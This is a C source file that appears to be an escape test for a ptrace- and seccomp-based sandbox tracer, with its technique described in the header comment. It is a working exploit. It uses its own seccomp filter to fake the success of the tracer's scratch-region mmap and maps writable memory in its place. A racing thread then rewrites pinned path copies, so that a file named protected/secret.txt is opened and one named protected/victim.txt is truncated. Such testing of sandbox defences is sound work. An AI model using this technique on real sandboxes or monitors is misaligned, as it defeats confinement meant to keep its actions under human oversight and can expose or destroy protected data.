/*
 * Vectors 3, 10: make the tracer's scratch region our own memory. At exec the
 * tracer maps its read-only region (tracer/scratch.c: mmap(SCRATCH_BASE,
 * PROT_READ, MAP_FIXED_NOREPLACE) by a stub or by injection). A seccomp
 * filter of our own (no listener) answers exactly that mmap with
 * RET_ERRNO|0: the call "returns" 0 and maps nothing. After re-exec'ing
 * ourselves under the filter, we map plain read-write memory at that address;
 * a tracer that believes the region is its own pins checked paths into memory
 * any of our threads can write. A thread flips the pinned copy between an
 * allowed decoy (work/aaaa/X) and protected/X while the main thread opens,
 * then truncates, the decoy. Natively there is no pin: the thread flips the
 * argument itself. Linked static (CMakeLists.txt) and its decoys made before
 * the filter: a tracer that knows its region is missing denies every checked
 * call, and the loader's opens or a mkdir would then stop us before the attack.
 * expect: ptrace_process|ptrace_file
 */
#include "esc.h"
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <sys/mman.h>
#include <sys/prctl.h>

/* tracer/scratch.h */
#define SCRATCH_BASE (0x3f0000000000ull + (1ull << 29))
#define SLOT_SIZE (192u * 1024u)
#define SLOTS 512
#define SCRATCH_SIZE ((uint64_t)SLOT_SIZE * SLOTS)

static char path[4096], decoy[4096], target[4096];
static size_t plen;
static char *volatile where;
static atomic_bool stop;

/* mmap(SCRATCH_BASE, _, PROT_READ, ...) returns 0 without mapping anything. */
static void install_filter(void)
{
	struct sock_filter f[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_mmap, 0, 7),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)SCRATCH_BASE, 0, 5),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[0]) + 4),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, (uint32_t)(SCRATCH_BASE >> 32), 0, 3),
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, args[2])),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, PROT_READ, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO | 0),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { .len = ARRAY_SIZE(f), .filter = f };

	if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) < 0 ||
	    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &prog) < 0)
		esc_blocked("installing our seccomp filter: %s", strerror(errno));
}

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(where, target, plen + 1);
		memcpy(where, decoy, plen + 1);
	}
	return NULL;
}

static char *find_pin(char *region)
{
	for (unsigned s = 0; s < SLOTS; s++) {
		char *b = region + (size_t)s * SLOT_SIZE;

		for (size_t i = 0; i + plen < 16384; i++)
			if (b[i] == decoy[0] && memcmp(b + i, decoy, plen + 1) == 0)
				return b + i;
	}
	return NULL;
}

/* The decoy work/aaaa/NAME, the target protected/NAME. */
static void set_paths(const char *name)
{
	const char *root = esc_env("ESC_ROOT");

	snprintf(decoy, sizeof(decoy), "%s/work/aaaa/%s", root, name);
	snprintf(target, sizeof(target), "%s/protected/%s", root, name);
	plen = strlen(decoy);
	memcpy(path, decoy, plen + 1);
}

/* Stage 1, before our filter: the decoys, 6 bytes each. */
static void make_decoys(void)
{
	const char *root = esc_env("ESC_ROOT");
	const char *names[] = { "secret.txt", "victim.txt" };

	mkdir(esc_fmt("%s/work/aaaa", root), 0755);
	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		const char *p = esc_fmt("%s/work/aaaa/%s", root, names[i]);
		int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC, 0644);

		if (fd < 0 || write(fd, "decoy\n", 6) != 6)
			esc_broken("decoy %s: %s", p, strerror(errno));
		close(fd);
	}
}

static bool won(bool do_open)
{
	struct stat st;

	if (!do_open) {
		truncate(path, 6);
		return stat(target, &st) == 0 && st.st_size == 6;
	}
	int fd = open(path, O_RDONLY);
	bool ok = fd >= 0 && esc_fd_has_secret(fd);
	if (fd >= 0)
		close(fd);
	return ok;
}

/* One call lets the tracer pin the decoy; then at most 2 s of calls. */
static bool race(char *region, bool do_open)
{
	const char *what = do_open ? "open" : "truncate";
	pthread_t t;
	long tries = 0;
	bool ok = false;

	won(do_open);
	where = find_pin(region);
	printf("%s: pinned copy at %p (%s)\n", what, (void *)where,
	       where ? "our memory" : "none: the argument");
	if (!where)
		where = path;
	atomic_store(&stop, false);
	pthread_create(&t, NULL, flipper, NULL);
	for (double end = esc_now() + 2; !ok && esc_now() < end;) {
		tries++;
		ok = won(do_open);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	printf("%s: %s after %ld tries\n", what, ok ? "won" : "lost", tries);
	return ok;
}

int main(int argc, char **argv)
{
	extern char **environ;

	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc < 2) {
		char *nargv[] = { argv[0], (char *)"stage2", NULL };

		make_decoys();
		install_filter();
		execve("/proc/self/exe", nargv, environ);
		esc_broken("re-exec: %s", strerror(errno));
	}
	int flags = MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE | MAP_NORESERVE;
	char *region = mmap((void *)SCRATCH_BASE, SCRATCH_SIZE, PROT_READ | PROT_WRITE, flags, -1, 0);
	if (region == MAP_FAILED)
		esc_blocked("the scratch address is taken (mmap: %s)", strerror(errno));
	if (region != (char *)SCRATCH_BASE)
		esc_skip("MAP_FIXED_NOREPLACE not honoured (mapped at %p)", (void *)region);
	printf("our read-write memory at the scratch address %p\n", (void *)region);
	set_paths("secret.txt");
	if (race(region, true))
		esc_success("opened protected/secret.txt through a pinned path in our memory");
	set_paths("victim.txt");
	if (race(region, false))
		esc_success("truncated protected/victim.txt through a pinned path in our memory");
	esc_blocked("the pinned paths were never rewritten in time");
}
